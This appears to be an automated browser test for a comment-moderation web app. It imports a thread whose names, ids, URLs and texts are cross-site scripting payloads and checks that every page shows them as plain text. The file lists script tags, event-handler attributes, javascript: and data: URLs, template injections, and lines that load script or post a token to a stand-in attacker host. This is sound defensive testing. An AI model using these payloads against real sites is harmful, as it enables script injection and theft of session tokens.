"use strict";
/* Readers, sites and editors whose every word is an attack: nothing runs, nothing
 * leaves, and all of it is shown as the words it is. */
const { Desk, signIn, watch } = require("./kit");
const tap = require("./tap");

const words = [
	"<script>alert('ran')</script>",
	"\"><img src=x onerror=alert('ran')>",
	"'><svg onload=alert('ran')>",
	"</textarea><script>alert('ran')</script>",
	"</title></style><script src=https://evil.example/x.js></script>",
	"<iframe srcdoc=\"<script>parent.alert('ran')</script>\"></iframe>",
	"<a href=\"javascript:alert('ran')\">look</a>",
	"<form action=https://evil.example/><input name=token></form>",
	"<base href=https://evil.example/>",
	"<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"{{token}} {{{token}}} {{>head}} {{#actor}}x{{/actor}}",
	"\u202eright to left\u202c <b>bold</b> &lt;i&gt; &#60;script&#62;alert('ran')&#60;/script&#62;",
	"onclick=alert('ran') autofocus onfocus=alert('ran') x=",
	"%3Cscript%3Ealert('ran')%3C/script%3E",
	"<!--><script>alert('ran')</script>-->",
];
const story = " He broke up with me in November and we have not spoken since. Should I send him a letter?";

const thread = {
	title: words[4] + words[0],
	url: "javascript:alert('ran')",
	comments: words.map((word, i) => ({
		id: `c${i}"><script>alert('ran')</script>`,
		author: i === 0 ? words[0] : word,
		date: i % 3 ? `2026-02-${String(i + 1).padStart(2, "0")}T10:00:00Z` : word,
		url: i % 2 ? "javascript:alert('ran')" : "data:text/html,<script>alert('ran')</script>",
		text: `${word}\n\n${word}${story}`,
	})),
};
/* Replies among them, so that there is something above and below. */
thread.comments.push({ id: "r1", parent: thread.comments[1].id, author: words[1], date: "2026-03-01T10:00:00Z",
	text: words[1] + " Can I write to her too?" });

async function everywhere(page, desk, ids) {
	const where = ["/", "/?status=all", "/stats", "/bulk", "/thread/1", "/keys"];
	for (const word of words) {
		where.push("/?search=" + encodeURIComponent(word), "/?status=all&author=" + encodeURIComponent(word),
			"/bulk?response=" + encodeURIComponent(word), "/stats?since=" + encodeURIComponent(word));
		where.push(`/item/${ids[0]}?topic=${encodeURIComponent(word)}&note=1`);
	}
	for (const item of ids)
		where.push(`/item/${item}`);
	for (const one of where)
		await page.goto(desk.base + one);
	for (const wrong of ["/?status=", "/?band=", "/?flag=", "/?reason=", "/?since="]) {
		page.expected.push(400);
		await page.goto(desk.base + wrong + encodeURIComponent(words[0]));
	}
	page.expected.push(404);
	await page.goto(desk.base + "/%3Cscript%3Ealert('ran')%3C/script%3E");
}

/* Words of editors: reply, note, filter, the name of who decides. */
async function written(page, desk, ids) {
	const go = (act) => Promise.all([page.waitForNavigation(), act()]);
	const text = words.filter((word) => !word.includes("{{")).join("\n");
	await page.goto(`${desk.base}/item/${ids[1]}`);
	await page.locator("#edit summary").click();
	await page.fill("#text", text);
	await page.waitForTimeout(700);
	await go(() => page.getByRole("button", { name: "Save", exact: true }).click());
	tap.is(await page.inputValue("#text"), text, "a reply is, letter for letter, what was typed");
	await page.locator("#reject summary").click();
	await page.fill("#note", words[0] + words[1]);
	await go(() => page.locator("#reject button").click());
	await page.goto(`${desk.base}/item/${ids[1]}?status=all`);
	for (const details of await page.locator("details").all())
		await details.evaluate((element) => { element.open = true; });
	tap.has(await page.textContent(".history"), words[0] + words[1], "a note is shown as it is");
	await page.goto(`${desk.base}/?status=all&author=${encodeURIComponent(words[1])}`);
	await page.click(".kept summary");
	await page.fill("#keep", "evil");
	await go(() => page.getByRole("button", { name: "Keep" }).click());
	await page.goto(desk.base + "/");
	await go(() => page.getByRole("link", { name: "evil", exact: true }).click());
	tap.is(await page.inputValue("#author"), words[1], "a kept filter has the name it was made of");
	/* A conflict, in which all of it is shown at once. */
	await page.goto(`${desk.base}/item/${ids[1]}?status=all`);
	desk.dear(["edit", String(ids[1]), "--text", "-", "--as", words[0]], words.slice(0, 6).join("\n"));
	page.expected.push(409);
	await page.locator("#edit summary").click();
	await page.fill("#text", words.slice(6).join("\n"));
	await go(() => page.getByRole("button", { name: "Save", exact: true }).click());
	tap.has(await page.textContent("main"), words[0], "a conflict, too");
}

async function shown(page, desk, ids) {
	await page.goto(`${desk.base}/item/${ids[0]}`);
	const token = await page.evaluate(() => document.body.dataset.token);
	for (const item of ids) {
		await page.goto(`${desk.base}/item/${item}`);
		const inside = await page.evaluate(() => ({
			scripts: document.querySelectorAll("script:not([src='/desk.js'])").length,
			odd: document.querySelectorAll("iframe, img, base, object, embed, main svg, main b, main i").length,
			handlers: [...document.querySelectorAll("*")].filter((one) =>
				[...one.attributes].some((attribute) => attribute.name.startsWith("on"))).length,
			links: [...document.querySelectorAll("a[href]")].filter((one) =>
				!/^(https?:|\/|#|\?)/.test(one.getAttribute("href"))).length,
		}));
		if (inside.scripts + inside.odd + inside.handlers + inside.links)
			return tap.ok(false, "a comment makes no element", JSON.stringify(inside) + " item " + item);
		const text = await page.textContent("main .letter");
		if (text.includes(token))
			return tap.ok(false, "a template in a comment is a text");
	}
	tap.ok(true, "a comment makes no element, no handler, no link, and no template");
	const all = desk.items("--status", "all");
	await page.goto(`${desk.base}/item/${all.find((item) => item.author === words[0]).id}`);
	tap.is(await page.textContent("h1"), words[0], "a name is shown as it is");
}

module.exports = async (browser) => {
	const desk = new Desk();
	try {
		desk.dear(["import", "--topic", "ex-letter", desk.file("hostile.json", thread)]);
		await desk.open("--as", words[0] + words[1]);
		const state = await signIn(browser, desk);
		const context = await browser.newContext({ storageState: state });
		const page = await watch(context, desk.base);
		const ids = desk.items("--status", "open").map((item) => item.id);
		tap.ok(ids.length > 10, "a thread of attacks is a thread");
		await tap.part("every page", () => everywhere(page, desk, ids));
		await tap.part("what editors write", () => written(page, desk, ids));
		await tap.part("what is shown", () => shown(page, desk, ids));
		tap.is(page.faults.join("\n"), "", "nothing ran, nothing left, the console is silent");
		await context.close();
	} finally {
		await desk.close();
	}
};
